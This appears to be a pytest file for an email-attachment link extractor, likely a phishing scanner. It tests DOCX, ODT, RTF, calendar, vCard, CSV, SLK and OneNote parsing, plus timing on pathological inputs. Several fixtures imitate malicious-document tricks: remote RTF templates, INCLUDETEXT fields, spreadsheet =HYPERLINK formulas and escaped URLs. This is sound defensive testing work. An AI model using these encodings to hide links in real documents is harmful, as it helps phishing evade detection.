def test_a_mail_that_came_as_a_file_beside_another() -> None:
    inner = b"From: x@y.example\nContent-Type: text/html\n\n<a href='https://a.example/x'>Open</a>\n"
    both = mail("a.eml", "message/rfc822", inner).replace(b"base64\n\n" + b64encode(inner), b"8bit\n\n" + inner)
    more = both.replace(b"--B--", b"--B\nContent-Type: image/png; name=x.png\n\nx\n--B--")
    (link,) = parse(more).links
    assert (link.target, link.source, link.place.part) == ("https://a.example/x", "attachment", "2")


def test_what_a_report_is_about_is_not_what_it_says() -> None:
    inner = b"From: x@y.example\nContent-Type: text/html\n\n<a href='https://a.example/x'>Open</a>\n"
    report = mail("a.eml", "message/rfc822", inner, kind="report").replace(
        b"base64\n\n" + b64encode(inner), b"8bit\n\n" + inner
    )
    assert parse(report).links == ()


@pytest.mark.parametrize(
    ("name", "kind", "piece"),
    [
        ("a.html", "text/html", b"<script>'" + b"QUJD" * 50 + b"';"),
        ("a.html", "text/html", b"<iframe " * 200),
        ("a.html", "text/html", b"'%41%41%41%41%41%41"),
        ("a.ics", "text/calendar", b'DESCRIPTION;A="b;' * 50 + b"\n"),
        ("a.rtf", "application/rtf", b"{\\rtf1{\\*\\fldinst HYPERLINK \\l"),
        ("a.url", "application/octet-stream", b"[InternetShortcut]\nURL = "),
        ("a.doc", "application/msword", b"h\0t\0t\0p\0:\0/\0/\0a\0b\0c\0d\0"),
    ],
)
def test_the_work_grows_no_faster_than_the_file(name: str, kind: str, piece: bytes) -> None:
    start = perf_counter()
    read(name, kind, piece * (600_000 // len(piece)))
    assert perf_counter() - start < 4


def test_a_mail_without_such_files_is_left_alone() -> None:
    assert read_documents(parse(b"From: a@b.example\n\nhttps://a.example/\n").parts) == ([], [], [])


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("/x", "/x>y"), ("https", " https"), ("<Relationship ", "<a-b:Relationship "),
        ("<Relationship ", "<Relationship " + " " * 7000),
    ],
)  # fmt: skip
def test_a_relationship_is_read_however_it_is_written(before: str, after: str) -> None:
    rows = f'<Relationships><Relationship Type="{RELATED}" Target="https://a.example/x" TargetMode="External"/></Relationships>'
    made = docx(more={"word/_rels/header1.xml.rels": rows.replace(before, after).encode()})
    assert targets(read("a.docx", WORD, made)) == ["https://a.example/x" + "%3Ey" * (before == "/x")]


def test_a_picture_that_word_fetches_is_a_link() -> None:
    message = read("a.docx", WORD, docx(("image", "https://a.example/x")))
    assert targets(message) == ["https://a.example/x"]
    assert message.documents[0].oddities == ()


@pytest.mark.parametrize("name", ["content.xml", "styles.xml"])
@pytest.mark.parametrize(
    "element",
    [
        "<text:a xlink:href='https://a.example/x'>Open</text:a>", '<text:a office:name=">" l:href="https://a.example/x"/>',
        '<text:section-source xlink:href = "https://a.example/x"/>', '<draw:plugin xlink:href="https://a.example/x"/>',
    ],
)  # fmt: skip
def test_whatever_leads_out_of_an_open_document_is_a_link(name: str, element: str) -> None:
    files = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office:body/>"}
    made = zipped({**files, name: f"<office:body>{element}</office:body>".encode()})
    assert targets(read("a.odt", "application/vnd.oasis.opendocument.text", made)) == ["https://a.example/x"]


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("a.docx", "application/octet-stream"),
        ("a", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ],
)
def test_an_office_document_whose_pieces_have_other_names_is_one_all_the_same(name: str, kind: str) -> None:
    rows = f'<Relationships><Relationship Type="{RELATED}" Target="https://a.example/x" TargetMode="External"/></Relationships>'
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    words = f'<?xml version="1.0"?><w:document xmlns:w="{space}"><w:t>Pay at https://b.example/y</w:t></w:document>'
    files = {"[Content_Types].xml": b"<Types/>", "b/body.xml": words.encode(), "b/_rels/body.xml.rels": rows.encode()}
    assert targets(read(name, kind, zipped(files))) == ["https://a.example/x", "https://b.example/y"]


@pytest.mark.parametrize(
    "field",
    [
        rb'HYPERLINK "\u104?ttps://a.example/x"', b"{}" * 2000 + b'HYPERLINK "https://a.example/x"',
        b"HYPERLINK" + b" " * 40 + b'"https://a.example/x"', rb'HYPERLINK \\o "a tip" "https://a.example/x"',
        rb'HYPERLINK "https://a.example/x" \\o "a tip"', rb'INCLUDETEXT "https://a.example/x"',
    ],
)  # fmt: skip
def test_a_field_of_an_rtf_file_is_read_however_it_is_written(field: bytes) -> None:
    made = rb"{\rtf1{\field{\*\fldinst " + field + rb"}{\fldrslt Open}}}"
    assert targets(read("a.rtf", "application/rtf", made)) == ["https://a.example/x"]


@pytest.mark.parametrize("written", [b"{\\*\n\\template https:%s}", rb"{\*\template \u104?ttps:%s}"])
def test_a_template_of_an_rtf_file_is_read_however_it_is_written(written: bytes) -> None:
    message = read("a.rtf", "application/rtf", rb"{\rtf1" + written % b"//a.example/x" + b"}")
    assert targets(message) == ["https://a.example/x"]
    assert message.documents[0].oddities == ("remote-attachedtemplate",)


@pytest.mark.parametrize(
    "field", [b"{}" * 28_000 + b"fldrslt", b"fldinst HYPERLINK" + b" " * 1000, b'HYPERLINK \\\\o "' * 200]
)
def test_fields_of_an_rtf_file_cost_no_more_than_others(field: bytes) -> None:
    start = perf_counter()
    read("a.rtf", "application/rtf", b"{\\rtf1" + (b"{\\field{\\*\\fldinst " + field) * (4_000_000 // len(field)))
    assert perf_counter() - start < 4  # alone on a machine, it takes about a second


_PAGE = b64encode(b"<html><a href='https://a.example/x'>Open</a></html>").decode()


@pytest.mark.parametrize(
    ("line", "source"),
    [
        ("URL" + ";A=1" * 20 + ":https://a.example/x", "attachment"), ('URL;A="1","2";B=3:https://a.example/x', "attachment"),
        ("STYLED-DESCRIPTION:<a href='https://a.example/x'>Open</a>", "attachment"), ("URL:https:a.example/x", "attachment"),
        (f"URL;ENCODING=b:{b64encode(b'https://a.example/x').decode()}", "attachment"),
        (f"NOTE;ENCODING=BASE64:{b64encode(b'See https://a.example/x').decode()}", "attachment"),
        ("LINK;LINKREL=SOURCE:https://a.example/x", "attachment"), ("X-SOCIALPROFILE;TYPE=a:https://a.example/x", "attachment"),
        (f"ATTACH;FMTTYPE=text/html;ENCODING=BASE64;VALUE=BINARY:{_PAGE}", "attachment"),
        (f"PHOTO;ENCODING=b;TYPE=PNG:{b64encode(QR).decode()}", "qr"),
        (f"PHOTO:data:image/png;base64,{b64encode(QR).decode()}", "qr"),
    ],
)  # fmt: skip
@pytest.mark.parametrize(("name", "kind"), [("a.ics", "text/calendar"), ("a.vcf", "text/vcard")])
def test_whatever_an_entry_leads_to_is_a_link(name: str, kind: str, line: str, source: str) -> None:
    (link,) = read(name, kind, f"BEGIN:VCARD\nFN:x\n{line}\nEND:VCARD\n".encode()).links
    assert (link.target, link.source) == ("https://a.example/x", source)


@pytest.mark.parametrize(
    ("name", "kind", "content"),
    [
        ("a.csv", "text/csv", b'1,=HYPERLINK("https://a.example/x";"Open")\n'),
        ("a.csv", "application/octet-stream", b'1,"=HYPERLINK(""https://a.""&""example/x"",""Open"")"\n'),
        ("a.slk", "application/octet-stream", b'ID;P\nC;Y1;X1;EHYPERLINK("https://a.example/x")\nE\n'),
        ("a.one", "application/octet-stream", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + "https://a.example/x".encode("utf-16-le")),
    ],
)  # fmt: skip
def test_tables_and_notes_lead_where_their_program_leads(name: str, kind: str, content: bytes) -> None:
    assert targets(read(name, kind, content)) == ["https://a.example/x"]


def test_a_code_behind_a_dozen_pictures_is_read() -> None:
    pieces = {f"word/media/{number:02}.png": QR[:60] + bytes(300) for number in range(12)}
    made = docx(more={**pieces, "word/media/last.png": QR})
    assert targets(read("a.docx", WORD, made)) == ["https://a.example/x"]
